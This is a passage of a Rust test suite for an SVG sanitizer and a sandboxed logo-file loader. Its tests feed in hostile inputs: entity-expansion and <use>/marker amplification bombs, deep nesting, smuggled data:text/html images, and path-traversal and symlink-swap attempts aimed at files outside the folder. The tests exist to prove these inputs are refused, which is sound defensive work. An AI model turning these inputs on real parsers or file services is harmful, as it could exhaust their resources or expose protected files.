            r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
            <image href="data:image/png;base64,{png}" width="1" height="1"/>
            <image href="data:image/png;base64,{fake_png}" width="1" height="1"/>
            <image href="data:text/html;base64,{fake_png}" width="1" height="1"/>
            <image href="data:image/svg+xml;base64,{inner}" width="4" height="4"/></svg>"#
        );
        let out = sanitized(&svg);
        assert!(out.contains(&png), "the real PNG is kept:\n{out}");
        assert!(!out.contains(&fake_png), "{out}");
        assert!(!out.contains("text/html"), "{out}");
        // The embedded SVG is re-written too.
        let embedded = out
            .split("data:image/svg+xml;base64, ")
            .nth(1)
            .and_then(|s| s.split('"').next())
            .expect("embedded SVG kept");
        let embedded = base64::engine::general_purpose::STANDARD
            .decode(embedded)
            .expect("base64");
        let embedded = String::from_utf8(embedded).expect("utf-8");
        assert!(
            !embedded.contains("script") && !embedded.contains("onload"),
            "{embedded}"
        );
        assert!(embedded.contains("<path"), "{embedded}");
        // An SVG image inside an SVG image is one level too many.
        let nested = b64(svg.as_bytes());
        let twice = format!(
            r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="data:image/svg+xml;base64,{nested}" width="4" height="4"/></svg>"#
        );
        assert_eq!(sanitize_svg(twice.as_bytes()), Err(SvgError::TooComplex));
    }

    #[test]
    fn text_is_refused_not_dropped() {
        let logo = r#"<svg xmlns="http://www.w3.org/2000/svg" width="160" height="48"><rect width="48" height="48"/><text x="56" y="30">Esimerkkilä</text></svg>"#;
        assert_eq!(sanitize_svg(logo.as_bytes()), Err(SvgError::Text));
        let prefixed = r#"<s:svg xmlns:s="http://www.w3.org/2000/svg" width="16" height="16"><s:g><s:text><s:tspan>A</s:tspan></s:text></s:g></s:svg>"#;
        assert_eq!(sanitize_svg(prefixed.as_bytes()), Err(SvgError::Text));
        // An empty text element loses nothing.
        let empty = r#"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><rect width="4" height="4"/><text> </text></svg>"#;
        assert!(sanitize_svg(empty.as_bytes()).is_ok());
    }

    #[test]
    fn what_is_not_an_svg_is_unreadable() {
        for (bytes, why) in [
            (&b"\x89PNG\r\n\x1a\n"[..], "UTF-8"),
            (b"just text", ""),
            (b"<svg xmlns=\"http://www.w3.org/2000/svg\"", ""),
            (b"<html><body/></html>", "not <svg>"),
            (b"\x1f\x8b\x08\0", ".svgz"),
            (
                b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"0\" height=\"0\"/>",
                "size",
            ),
        ] {
            match sanitize_svg(bytes) {
                Err(SvgError::Unreadable(reason)) => assert!(reason.contains(why), "{reason}"),
                other => panic!("{:?}: {other:?}", String::from_utf8_lossy(bytes)),
            }
        }
    }

    #[test]
    fn amplification_is_refused_before_it_costs_memory() {
        // Nested <use>: 10^6 copies of a 600 KB path.
        let d: String = (0..60_000)
            .map(|i| format!("L{} {} ", i % 100, i % 37))
            .collect();
        let mut uses = format!(
            r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><defs><path id="l0" d="M0 0 {d}"/>"##
        );
        for i in 1..=6 {
            uses.push_str(&format!("<g id=\"l{i}\">"));
            for _ in 0..10 {
                uses.push_str(&format!("<use xlink:href=\"#l{}\"/>", i - 1));
            }
            uses.push_str("</g>");
        }
        uses.push_str("</defs><use xlink:href=\"#l6\"/></svg>");
        // Markers: a large marker on each of 100 000 vertices.
        let points: String = (0..100_000)
            .map(|i| format!("{} {} ", i % 10, i % 7))
            .collect();
        let markers = format!(
            r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><marker id="m"><path d="M0 0 {d}"/></marker><polyline points="{points}" marker-mid="url(#m)"/></svg>"#
        );
        // Entities: one 100 KB entity referenced 10 000 times.
        let big = "x".repeat(100_000);
        let refs = "&big;".repeat(10_000);
        let entities = format!(
            r#"<!DOCTYPE svg [<!ENTITY big "{big}">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><desc>{refs}</desc></svg>"#
        );
        // A style sheet copied onto many elements.
        let css = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><style>* {{ fill: {}red }}</style>{}</svg>",
            " ".repeat(500_000),
            "<g/>".repeat(200_000)
        );
        for (what, svg) in [
            ("use", uses),
            ("markers", markers),
            ("entities", entities),
            ("css", css),
        ] {
            assert!(svg.len() < MAX_FILE as usize, "{what}: {}", svg.len());
            let started = std::time::Instant::now();
            assert_eq!(
                sanitize_svg(svg.as_bytes()),
                Err(SvgError::TooComplex),
                "{what}"
            );
            assert!(
                started.elapsed().as_secs() < 10,
                "{what}: {:?}",
                started.elapsed()
            );
        }
        // Deep nesting would otherwise recurse in usvg.
        let deep = format!(
            r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}<rect width="1" height="1"/>{}</svg>"#,
            "<g>".repeat(10_000),
            "</g>".repeat(10_000)
        );
        assert_eq!(sanitize_svg(deep.as_bytes()), Err(SvgError::TooComplex));
        // Nesting just within the limit is re-written, even on a test
        // thread's small stack, through groups and `<use>` alike.
        let n = MAX_DEPTH / 2 - 2;
        let within = format!(
            r##"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><defs><g id="deep">{}<rect width="1" height="1"/>{}</g></defs>{}<use href="#deep"/>{}</svg>"##,
            r#"<g opacity="0.5">"#.repeat(n),
            "</g>".repeat(n),
            r#"<g opacity="0.5">"#.repeat(n),
            "</g>".repeat(n)
        );
        assert!(sanitize_svg(within.as_bytes()).is_ok());
        // A long chain of entities, each using the one declared after it:
        // counted without recursing 100 000 deep (roxmltree stops at 10).
        let mut chain = String::from("<!DOCTYPE svg [");
        for i in 1..100_000 {
            chain.push_str(&format!("<!ENTITY e{i} \"&e{};\">", i + 1));
        }
        chain.push_str(r#"<!ENTITY e100000 "x">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><desc>&e1;</desc></svg>"#);
        assert_eq!(sanitize_svg(chain.as_bytes()), Err(SvgError::TooComplex));
        // A few entities of a real export are fine.
        let ok = r##"<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY fill "#005a9c">]><svg xmlns="&ns_svg;" width="10" height="10"><rect width="5" height="5" fill="&fill;"/></svg>"##;
        assert!(sanitized(ok).contains("fill=\"#005a9c\""));
    }

    #[cfg(unix)]
    mod files {
        use super::super::*;
        use std::os::unix::fs::symlink;

        const PNG: &[u8] = b"\x89PNG\r\n\x1a\nrest";

        /// `outside/secret.png`, and `customer/` with `logos/real.png`.
        fn folders() -> (tempfile::TempDir, PathBuf) {
            let tmp = tempfile::tempdir().expect("temp");
            let customer = tmp.path().join("customer");
            std::fs::create_dir_all(customer.join("logos")).expect("mkdir");
            std::fs::create_dir(tmp.path().join("outside")).expect("mkdir");
            std::fs::write(customer.join("logos/real.png"), PNG).expect("write");
            std::fs::write(
                tmp.path().join("outside/secret.png"),
                b"\x89PNG\r\n\x1a\nsecret",
            )
            .expect("write");
            (tmp, customer)
        }

        fn problem(dir: &Path, value: &str) -> Problem {
            load(dir, value).expect_err(value)
        }

        #[test]
        fn a_file_in_the_folder_is_read() {
            let (_tmp, customer) = folders();
            let (name, bytes) = load(&customer, "logos/real.png").expect("read");
            assert_eq!((name.as_str(), bytes.as_slice()), ("logo.png", PNG));
        }

        #[test]
        fn links_are_refused_even_inside_the_folder() {
            let (tmp, customer) = folders();
            symlink("real.png", customer.join("logos/inside.png")).expect("link");
            symlink(
                tmp.path().join("outside/secret.png"),
                customer.join("out.png"),
            )
            .expect("link");
            symlink("logos", customer.join("linked")).expect("link");
            symlink(tmp.path().join("outside"), customer.join("away")).expect("link");
            assert!(matches!(
                problem(&customer, "logos/inside.png"),
                Problem::Link(None)
            ));
            assert!(matches!(problem(&customer, "out.png"), Problem::Link(None)));
            assert!(
                matches!(problem(&customer, "linked/real.png"), Problem::Link(Some(f)) if f == "linked")
            );
            assert!(
                matches!(problem(&customer, "away/secret.png"), Problem::Link(Some(f)) if f == "away")
            );
            // The same without openat2: the component walk. (A linked
            // folder opened with O_DIRECTORY | O_NOFOLLOW is ENOTDIR on
            // Linux, ELOOP elsewhere: refused either way.)
            let walk = |path: &str| {
                let dirfd = rustix::fs::open(
                    &customer,
                    rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::DIRECTORY,
                    rustix::fs::Mode::empty(),
                )
                .expect("dir");
                walk(dirfd, Path::new(path))
            };
            assert!(matches!(walk("logos/inside.png"), Err(OpenError::Link)));
            assert!(matches!(walk("out.png"), Err(OpenError::Link)));
            assert!(walk("linked/real.png").is_err());
            assert!(walk("away/secret.png").is_err());
            assert!(walk("logos/real.png").is_ok());
        }

        #[test]
        fn other_paths_are_refused() {
            let (_tmp, customer) = folders();
            assert!(matches!(
                problem(&customer, "../outside/secret.png"),
                Problem::Outside
            ));
            assert!(matches!(problem(&customer, "/etc/x.png"), Problem::Outside));
            assert!(matches!(
                problem(&customer, "./logos/real.png"),
                Problem::Outside
            ));
            assert!(matches!(
                problem(&customer, "logos/none.png"),
                Problem::NotFound
            ));
            assert!(matches!(
                problem(&customer, "logos/real.png/x.png"),
                Problem::NotFound
            ));
            std::fs::create_dir(customer.join("folder.png")).expect("mkdir");
            assert!(matches!(
                problem(&customer, "folder.png"),
                Problem::NotAFile
            ));
            // A FIFO neither blocks the open nor passes for a file.
            #[cfg(target_os = "linux")]
            {
                rustix::fs::mknodat(
                    rustix::fs::CWD,
                    customer.join("fifo.png"),
                    rustix::fs::FileType::Fifo,
                    rustix::fs::Mode::from_raw_mode(0o600),
                    0,
                )
                .expect("mkfifo");
                assert!(matches!(problem(&customer, "fifo.png"), Problem::NotAFile));
            }
            std::fs::write(customer.join("big.png"), vec![0u8; MAX_FILE as usize + 1])
                .expect("write");
            assert!(matches!(problem(&customer, "big.png"), Problem::TooLarge));
            std::fs::write(customer.join("text.png"), "not a png").expect("write");
            assert!(matches!(problem(&customer, "text.png"), Problem::WrongType(e) if e == "png"));
            assert!(matches!(
                problem(&customer, "logo.gif"),
                Problem::NotAnImage
            ));
        }

        /// The check and the read are on one handle: once opened, replacing
        /// the file by a link to a secret changes nothing that is read.
        #[test]
        fn the_read_goes_through_the_opened_handle() {
            let (tmp, customer) = folders();
            let file = open_beneath(&customer, Path::new("logos/real.png")).expect("open");
            let real = customer.join("logos/real.png");
            std::fs::remove_file(&real).expect("remove");
            symlink(tmp.path().join("outside/secret.png"), &real).expect("link");
            assert_eq!(read_handle(file).expect("read"), PNG);
            // And opened anew, the path is now refused.
            assert!(matches!(
                problem(&customer, "logos/real.png"),
                Problem::Link(None)
            ));
        }
    }
}
